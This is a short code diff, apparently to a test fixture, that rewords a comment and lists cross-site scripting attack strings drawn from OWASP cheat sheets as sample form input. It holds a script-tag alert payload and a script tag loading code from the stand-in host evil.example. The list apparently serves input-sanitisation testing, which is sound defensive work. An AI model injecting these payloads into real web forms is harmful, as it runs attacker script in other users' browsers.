@@ -1,4 +1,4 @@
-/** Attacks of OWASP's Cross Site Scripting cheat sheets, one of each kind, as somebody would type them into a form. */
+/** Attacks from OWASP's Cross Site Scripting cheat sheets, one of each kind, as form input. */
 export const attacks: readonly string[] = [
   '<script>alert(1)</script>',
   '<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>',
